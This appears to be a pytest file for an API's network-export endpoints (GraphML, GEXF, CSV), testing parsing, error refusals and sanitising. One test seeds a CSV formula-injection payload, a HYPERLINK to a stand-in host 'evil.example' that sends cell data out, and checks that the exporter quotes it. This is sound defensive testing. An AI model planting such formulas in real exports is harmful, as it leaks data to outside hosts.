"""GET /exports/...: the network of a filter as GraphML, GEXF and CSV, parsed back."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any
from xml.etree import ElementTree

import networkx  # type: ignore[import-untyped]  # networkx ships no type information
import pytest

from api import models as m
from api.graph.export import csv_cell
from tests.conftest import GraphQLClient
from tests.permissions.graph import Graph

FILTER = "?category=kim,traditional_media"


async def fetch(client: GraphQLClient, name: str, query: str = FILTER) -> bytes:
    response = await client.http.get(f"/exports/{name}{query}")
    assert response.status_code == 200, response.text
    assert response.headers["content-disposition"] == f'attachment; filename="simpul-{name}"'
    return response.content


def pair(g: Graph) -> tuple[str, str]:
    return g.id("stakeholder"), g.id("stakeholder2")


@pytest.mark.parametrize(
    ("name", "read"),
    [("network.graphml", networkx.read_graphml), ("network.gexf", networkx.read_gexf)],
)
async def test_graph_files(graph: Graph, anonymous: GraphQLClient, name: str, read: Any) -> None:
    network = read(io.BytesIO(await fetch(anonymous, name)))
    kim, sanggar = pair(graph)
    attributes = network.nodes[kim]
    assert attributes["label"] == f"KIM Permission {graph.t}"
    assert attributes["category"] == "kim"
    assert attributes["region"] == graph["region"].code
    assert attributes["degree"] == 1
    assert attributes["weighted_degree"] == 2.0
    assert attributes["community"] == network.nodes[sanggar]["community"]
    assert {"betweenness", "page_rank", "status", "region_name"} <= set(attributes)
    edge = network.edges[kim, sanggar]
    assert (edge["count"], edge["weight"]) == (2, 2.0)


async def test_csv_lists(graph: Graph, anonymous: GraphQLClient) -> None:
    nodes = list(
        csv.DictReader(io.StringIO((await fetch(anonymous, "network-nodes.csv")).decode()))
    )
    edges = list(
        csv.DictReader(io.StringIO((await fetch(anonymous, "network-edges.csv")).decode()))
    )
    kim, sanggar = pair(graph)
    [row] = [n for n in nodes if n["id"] == kim]
    assert (row["label"], row["category"], row["degree"]) == (
        f"KIM Permission {graph.t}",
        "kim",
        "1",
    )
    [link] = [e for e in edges if {e["source"], e["target"]} == {kim, sanggar}]
    assert (link["count"], link["weight"]) == ("2", "2.0")
    assert {n["category"] for n in nodes} == {"kim", "traditional_media"}


async def test_staff_see_drafts(graph: Graph, staff: GraphQLClient) -> None:
    edges = (await fetch(staff, "network-edges.csv")).decode()
    kim, sanggar = pair(graph)
    [link] = [
        e
        for e in csv.DictReader(io.StringIO(edges))
        if {e["source"], e["target"]} == {kim, sanggar}
    ]
    assert link["count"] == "3"


async def test_refusals(graph: Graph, anonymous: GraphQLClient) -> None:
    http = anonymous.http
    response = await http.get("/exports/network.gexf?region=99")
    assert response.status_code == 400
    extensions = {"code": "BAD_USER_INPUT", "field": "region"}
    message = "Unknown region code '99'."
    assert response.json() == {"errors": [{"message": message, "extensions": extensions}]}
    response = await http.get("/exports/network.gexf?from=yesterday")
    assert response.status_code == 400
    assert response.json()["errors"][0]["extensions"]["field"] == "from"
    response = await http.get("/exports/network.gexf?category=nope")
    assert response.status_code == 400
    response = await http.get("/exports/network.gexf", headers={"Authorization": "Bearer spl_x"})
    assert response.status_code == 401
    assert response.json()["errors"][0]["extensions"]["code"] == "UNAUTHENTICATED"
    assert "ratelimit-limit" in response.headers  # counted like /graphql


async def _rename(graph: Graph, stakeholder: str, region: str) -> None:
    """Names written straight to the database, as rows from before input was cleaned or
    edited by hand may hold them."""
    now = dt.datetime.now(dt.UTC)
    await m.Stakeholder.filter(id=graph.key("stakeholder")).update(name=stakeholder, updated_at=now)
    await m.Region.filter(id=graph.key("region")).update(name=region, updated_at=now)


@pytest.mark.parametrize(
    ("name", "read"),
    [("network.graphml", networkx.read_graphml), ("network.gexf", networkx.read_gexf)],
)
async def test_control_characters_in_the_database_do_not_break_the_xml_files(
    graph: Graph, anonymous: GraphQLClient, name: str, read: Any
) -> None:
    await _rename(graph, f"KIM\x0bRukun\x01\ufffe {graph.t}", f"Desa\x1b\x0c{graph.t}")

    content = await fetch(anonymous, name)

    ElementTree.fromstring(content)  # well-formed XML
    node = read(io.BytesIO(content)).nodes[graph.id("stakeholder")]
    assert (node["label"], node["region_name"]) == (f"KIM Rukun {graph.t}", f"Desa {graph.t}")


async def test_csv_cells_that_would_be_formulas_are_quoted(
    graph: Graph, anonymous: GraphQLClient
) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    await _rename(graph, formula, f"-1.5 {graph.t}")
    await m.Stakeholder.filter(id=graph.key("stakeholder2")).update(
        name="-1.5", updated_at=dt.datetime.now(dt.UTC)
    )

    nodes = list(
        csv.DictReader(io.StringIO((await fetch(anonymous, "network-nodes.csv")).decode()))
    )

    kim, sanggar = pair(graph)
    [row] = [n for n in nodes if n["id"] == kim]
    [other] = [n for n in nodes if n["id"] == sanggar]
    assert (row["label"], row["region_name"], row["degree"]) == (
        f"'{formula}",
        f"'-1.5 {graph.t}",
        "1",
    )
    assert other["label"] == "-1.5"  # a number, not a formula


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+62 811", "'+62 811"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-1.5", "-1.5"),
        ("+3", "+3"),
        ("-2e5", "-2e5"),
        ("KIM", "KIM"),
        (-1.5, -1.5),
        (3, 3),
    ],
)
def test_csv_cell(value: Any, cell: Any) -> None:
    assert csv_cell(value) == cell
